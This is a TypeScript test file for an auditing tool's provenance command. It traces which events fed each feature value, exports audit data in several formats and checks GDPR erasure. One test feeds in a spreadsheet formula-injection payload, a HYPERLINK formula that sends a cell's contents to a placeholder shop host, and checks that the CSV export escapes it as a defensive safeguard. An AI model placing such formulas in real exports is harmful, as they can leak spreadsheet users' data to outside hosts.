// The question of an auditor: from which events came the feature values that this decision was made from? Asked in an
// engine of the auditor's own, over files and over the table.
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import type { Client, ProvenanceRow } from '@whence/sdk'
import { WhenceError } from '@whence/sdk'
import { run } from '../server/src/cli/testing.ts'
import type { Ran } from '../server/src/cli/testing.ts'
import { openColumns, quote } from '../server/src/store/columns.ts'
import type { Columns } from '../server/src/store/columns.ts'
import { walk } from '../server/src/store/files.ts'
import { at, customers, follow, letters } from './shop.ts'
import type { Letter, Thread } from './shop.ts'
import { Site } from './site.ts'
import type { Running } from './site.ts'

async function collect<T>(rows: AsyncIterable<T>): Promise<T[]> {
  const all: T[] = []
  for await (const row of rows) all.push(row)
  return all
}

const day = 86_400_000
const now = Date.parse(at)

/** Which letters each feature counts, reckoned from the letters. */
const counted: Record<string, (letter: Letter) => boolean> = {
  letters_90d: ({ event, time }) => event === 'sent' && Date.parse(time) > now - 90 * day,
  opens_90d: ({ event, time }) => event === 'opened' && Date.parse(time) > now - 90 * day,
  opens_30d: ({ event, time }) => event === 'opened' && Date.parse(time) > now - 30 * day,
  spent: ({ event }) => event === 'bought',
}

suite('provenance', () => {
  let site: Site
  let server: Running
  let client: Client
  let thread: Thread
  let engine: Columns

  const whence = (...args: string[]): Promise<Ran> => run(args, client, { cwd: site.folder })

  before(async () => {
    site = await Site.make()
    server = await site.start()
    client = server.client
    thread = await follow(client)
    engine = await openColumns({ folder: join(site.folder, 'auditor'), also: [site.folder] })
  })
  after(async () => {
    await engine?.close()
    await site?.remove()
  })

  test('has for each feature of each row exactly the events that it counts, with their ids at the source', async () => {
    const rows = await collect(client.provenance(thread.snapshot.id))
    for (const [i, customer] of customers.entries()) {
      for (const [feature, counts] of Object.entries(counted)) {
        const wanted = letters.filter((letter) => letter.customer === customer && counts(letter))
        const found = rows.filter((row) => row.entity === thread.subjects[i] && row.feature === feature)
        if (wanted.length === 0) {
          assert.equal(found.length, 1, 'a value made from no event has one row without one')
          assert.deepEqual([found[0]!.campaign_event_id, found[0]!.event_seq, found[0]!.event_time], [null, null, null])
          continue
        }
        assert.deepEqual(
          found.map(({ campaign_event_id: id, campaign, creative }) => [id, campaign, creative]),
          wanted.map(({ id, campaign, creative }) => [id, campaign, creative]),
        )
        assert.ok(found.every((row) => row.feature_snapshot_id === thread.snapshot.id && row.view === 'reader@v1'))
      }
    }
  })

  test('is drawn by seed, or of one person; what is not there is refused', async () => {
    const entities = (rows: ProvenanceRow[]): string[] => [...new Set(rows.map(({ entity }) => entity))]
    const [three, again, five, other] = await Promise.all(
      [{ sample: 3 }, { sample: 3 }, { sample: 5 }, { sample: 3, seed: 2 }].map((query) =>
        collect(client.provenance(thread.snapshot.id, query)).then(entities),
      ),
    )
    assert.equal(three!.length, 3)
    assert.deepEqual(three, again)
    assert.ok(three!.every((entity) => five!.includes(entity)))
    assert.notDeepEqual(three, other)
    const subject = thread.subjects[4]!
    assert.deepEqual(entities(await collect(client.provenance(thread.snapshot.id, { subject }))), [subject])
    for (const [id, query] of [
      [thread.snapshot.id, { subject: 'ab'.repeat(16) }],
      [1, {}],
    ] as const)
      await assert.rejects(
        collect(client.provenance(id, query)),
        (error) => error instanceof WhenceError && error.code === 'not_found',
      )
  })

  test('the audit query runs in any engine: predictions joined to the export by snapshot and entity', async () => {
    for (const name of ['audit.parquet', 'audit.csv', 'audit.ndjson']) {
      const made = await whence('provenance', String(thread.snapshot.id), '--out', name)
      assert.equal(made.code, 0, made.stderr)
      assert.equal(existsSync(join(site.folder, `${name}.part`)), false)
    }
    // What a scoring service keeps: the id of each prediction, its snapshot, and whom it was about.
    const explained = await Promise.all(['p-bela', 'p-cleo'].map((id) => client.explain(id)))
    const predictions = explained.map(
      ({ id, snapshot }, i) => `(${quote(id)}, ${snapshot!.id}, ${quote(thread.subjects[i + 1]!)})`,
    )
    const answers = []
    for (const from of [
      `read_parquet(${quote(join(site.folder, 'audit.parquet'))})`,
      `read_csv(${quote(join(site.folder, 'audit.csv'))}, header = true, nullstr = '', allow_quoted_nulls = false)`,
      `read_json(${quote(join(site.folder, 'audit.ndjson'))})`,
    ])
      answers.push(
        await engine.rows<{ prediction: string; feature: string; event: string; campaign: string }>(
          `SELECT p.id AS prediction, f.feature, f.campaign_event_id AS event, f.campaign
           FROM (VALUES ${predictions.join(', ')}) p(id, feature_snapshot_id, entity)
           JOIN ${from} f ON f.feature_snapshot_id = p.feature_snapshot_id AND f.entity = p.entity
           WHERE f.campaign_event_id IS NOT NULL ORDER BY 1, 2, f.event_time, f.event_seq`,
        ),
      )
    const wanted = ['bela', 'cleo'].flatMap((name) =>
      Object.keys(counted)
        .toSorted()
        .flatMap((feature) =>
          letters
            .filter((letter) => letter.customer.includes(name) && counted[feature]!(letter))
            .map(({ id, campaign }) => ({ prediction: `p-${name}`, feature, event: id, campaign })),
        ),
    )
    assert.ok(wanted.length > 5)
    for (const answer of answers) assert.deepEqual(answer, wanted)
    // And it says the same as the explanation of the decision.
    for (const { id, inputs, events } of explained)
      for (const { name, events: seqs } of inputs)
        assert.deepEqual(
          answers[0]!.filter((row) => row.prediction === id && row.feature === name).map(({ event }) => event),
          seqs.map((seq) => events.find((event) => event.seq === seq)!.id),
        )
  })

  test('the table has the same rows; adding a snapshot twice changes nothing; an erased person goes from it', async () => {
    const id = String(thread.snapshot.id)
    const ran = await whence('provenance', id, '--table')
    assert.equal(ran.code, 0, ran.stderr)
    assert.match(ran.stdout, /rows added to audit\.reader_v1/)
    assert.match((await whence('provenance', id, '--table')).stdout, /audit\.reader_v1 has snapshot [\d,]+ already/)
    const folder = join(site.data, 'tables/audit')
    const files = async (): Promise<string[]> =>
      (await walk(folder)).filter((path) => path.endsWith('.parquet')).map((path) => join(folder, path))
    const rowsIn = async (): Promise<{ entity: string; id: string | null }[]> =>
      engine.rows(
        `SELECT entity, campaign_event_id AS id FROM read_parquet([${(await files()).map(quote).join(', ')}])
         ORDER BY entity, feature, event_time, event_seq`,
      )
    const rows = await collect(client.provenance(thread.snapshot.id))
    assert.deepEqual(
      (await rowsIn()).map((row) => `${row.entity} ${row.id}`).toSorted(),
      rows.map((row) => `${row.entity} ${row.campaign_event_id}`).toSorted(),
    )

    const gone = thread.subjects[1]!
    const theirs = new Set(letters.filter(({ customer }) => customer === customers[1]).map((letter) => letter.id))
    const { seq } = await client.erase({ identifier: customers[1]!, basis: 'Art. 17(1)(b)' })
    // The log says that the table's files were written again, and which stand for which.
    const { records } = await client.records({ from: thread.snapshot.id, limit: 1000 })
    const erased = records.filter(
      ({ entry }) => entry.kind === 'table/1' && JSON.stringify(entry).includes('audit.reader_v1'),
    )
    assert.match(JSON.stringify(erased.at(-1)!.entry), /"erase"/)
    assert.ok(erased.at(-1)!.seq < seq)
    assert.equal(
      (await rowsIn()).some(({ entity }) => entity === gone),
      false,
    )
    for (const path of await files()) {
      const bytes = readFileSync(path)
      assert.equal(bytes.includes(gone), false)
      assert.equal(bytes.includes(Buffer.from(gone, 'hex')), false)
    }
    assert.equal((await rowsIn()).length, rows.filter(({ entity }) => entity !== gone).length)
    const left = await collect(client.provenance(thread.snapshot.id))
    assert.equal(
      left.some((row) => row.entity === gone || theirs.has(row.campaign_event_id ?? '')),
      false,
    )
    assert.deepEqual((await client.verify()).problems, [])
  })

  test('a campaign that a spreadsheet would calculate is text in CSV, and exact elsewhere', async () => {
    const campaign = '=HYPERLINK("http://shop.example/?"&A1,"win")'
    const odd = { ...letters[0]!, id: '-2+3', n: letters.length + 1, customer: customers[2]!, campaign }
    assert.equal((await client.ingest('letters', [odd])).accounting.passed, 1)
    const { id } = await client.materialize({ view: 'reader', at: thread.snapshot.at })
    const of = ['provenance', String(id), '--subject', thread.subjects[2]!]
    const csv = await whence(...of)
    const exact = await whence(...of, '--json')
    assert.deepEqual([csv.code, exact.code], [0, 0], csv.stderr)
    const lines = csv.stdout.split('\n').filter((line) => line.includes('HYPERLINK'))
    assert.ok(lines.length > 0)
    for (const line of lines) {
      assert.ok(line.includes(`,'-2+3,`), line)
      assert.ok(line.includes(`"'=HYPERLINK(""http://shop.example/?""&A1,""win"")"`), line)
    }
    const rows = exact.stdout.trim().split('\n')
    const found = rows.map((row) => JSON.parse(row) as ProvenanceRow).filter((row) => row.campaign === campaign)
    assert.equal(found.length, lines.length)
    assert.ok(found.every((row) => row.campaign_event_id === '-2+3'))
  })

  test('the command refuses what it cannot do, and leaves no half of a file', async () => {
    const id = String(thread.snapshot.id)
    for (const args of [
      [id, '--out', 'audit.xlsx'],
      [id, '--subject', thread.subjects[0]!, '--sample', '2'],
      [id, '--table', '--sample', '2'],
      ['x'],
    ])
      assert.equal((await whence('provenance', ...args)).code, 2, args.join(' '))
    const nowhere = await whence('provenance', id, '--out', 'nowhere/audit.csv')
    assert.equal(nowhere.code, 2)
    const unknown = await whence('provenance', '1', '--out', 'never.csv')
    assert.equal(unknown.code, 1)
    assert.equal(existsSync(join(site.folder, 'never.csv')), false)
    assert.equal(existsSync(join(site.folder, 'never.csv.part')), false)
  })
})
